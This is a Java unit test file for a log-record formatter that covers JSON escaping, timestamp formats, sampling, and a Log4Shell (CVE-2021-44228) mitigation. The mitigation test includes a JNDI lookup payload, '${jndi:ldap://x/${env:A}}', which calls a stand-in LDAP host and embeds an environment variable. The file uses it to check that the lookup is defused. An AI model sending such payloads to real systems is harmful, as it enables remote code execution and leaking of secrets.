package zoneplane.dataplane.logpush;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import zoneplane.dataplane.usage.ExchangeRecord;
import zoneplane.model.logpush.HttpRequestsField;
import zoneplane.model.logpush.OutputOptions;
import zoneplane.model.logpush.TimestampFormat;

class RecordFormatterTest {

    static final Instant START = Instant.parse("2026-12-07T14:05:03.123456789Z");

    static ExchangeRecord record(String userAgent) {
        return new ExchangeRecord(ExchangeRecord.Kind.WEBSOCKET, "8f00aa-TST", "z", "a.test", "TST", "2001:db8::1", 443, "T1",
                "a.test", "GET", "/p?q=\u00e9", "HTTP/1.1", "https", "TLSv1.3", userAgent, "", 10, START, START.plusSeconds(2),
                -1, 101, 55, 0, "", "::1", "", 0, 0, true);
    }

    static String format(OutputOptions options, ExchangeRecord record) {
        return new String(new RecordFormatter(options).format(record), StandardCharsets.UTF_8);
    }

    static OutputOptions options(TimestampFormat format, HttpRequestsField... fields) {
        return new OutputOptions(List.of(fields), format, 1, "", "", "{", "}\n", "", false);
    }

    @Test
    void fieldsAreWrittenInTheJobsOrderStringsEscapedNumbersAsNumbers() {
        assertThat(format(options(TimestampFormat.UNIX, HttpRequestsField.EDGE_RESPONSE_STATUS, HttpRequestsField.CLIENT_REQUEST_USER_AGENT,
                HttpRequestsField.CLIENT_COUNTRY, HttpRequestsField.CLIENT_REQUEST_QUERY, HttpRequestsField.EDGE_TIME_TO_FIRST_BYTE_MS,
                HttpRequestsField.ZONEPLANE_CONNECTION_KIND), record("a \"b\"\\\n\u0001")))
                .isEqualTo("{\"EdgeResponseStatus\":101,\"ClientRequestUserAgent\":\"a \\\"b\\\"\\\\\\n\\u0001\","
                        + "\"ClientCountry\":\"t1\",\"ClientRequestQuery\":\"q=\u00e9\",\"EdgeTimeToFirstByteMs\":0,"
                        + "\"ZoneplaneConnectionKind\":\"websocket\"}\n");
    }

    @Test
    void theFourTimestampFormats() {
        HttpRequestsField[] both = {HttpRequestsField.EDGE_START_TIMESTAMP, HttpRequestsField.EDGE_END_TIMESTAMP};
        assertThat(format(options(TimestampFormat.UNIXNANO, both), record("")))
                .isEqualTo("{\"EdgeStartTimestamp\":1796652303123456789,\"EdgeEndTimestamp\":1796652305123456789}\n");
        assertThat(format(options(TimestampFormat.UNIX, both), record("")))
                .isEqualTo("{\"EdgeStartTimestamp\":1796652303,\"EdgeEndTimestamp\":1796652305}\n");
        assertThat(format(options(TimestampFormat.RFC3339, both), record("")))
                .isEqualTo("{\"EdgeStartTimestamp\":\"2026-12-07T14:05:03Z\",\"EdgeEndTimestamp\":\"2026-12-07T14:05:05Z\"}\n");
        assertThat(format(options(TimestampFormat.RFC3339MS, both), record("")))
                .isEqualTo("{\"EdgeStartTimestamp\":\"2026-12-07T14:05:03.123Z\",\"EdgeEndTimestamp\":\"2026-12-07T14:05:05.123Z\"}\n");
    }

    @Test
    void cve202144228RewritesEveryLookupAndPrefixesFrameTheRecord() {
        OutputOptions cve = new OutputOptions(List.of(HttpRequestsField.CLIENT_REQUEST_USER_AGENT), TimestampFormat.UNIX, 1,
                "", "", "<", ">", "", true);
        assertThat(format(cve, record("${jndi:ldap://x/${env:A}}"))).isEqualTo("<\"ClientRequestUserAgent\":\"x{jndi:ldap://x/x{env:A}}\">");
        OutputOptions off = new OutputOptions(cve.fieldNames(), TimestampFormat.UNIX, 1, "", "", "<", ">", "", false);
        assertThat(format(off, record("${jndi:x}"))).isEqualTo("<\"ClientRequestUserAgent\":\"${jndi:x}\">");
    }

    @Test
    void theSampleKeepsTheRateDeterministically() {
        long kept = java.util.stream.IntStream.range(0, 20_000).filter(i -> Sampling.keep(3, "ray-" + i, 0.1)).count();
        assertThat(kept).isBetween(1800L, 2200L);
        assertThat(Sampling.keep(3, "ray-1", 0.1)).isEqualTo(Sampling.keep(3, "ray-1", 0.1));
        assertThat(java.util.stream.IntStream.range(0, 1000).allMatch(i -> Sampling.keep(3, "r" + i, 1.0))).isTrue();
    }
}
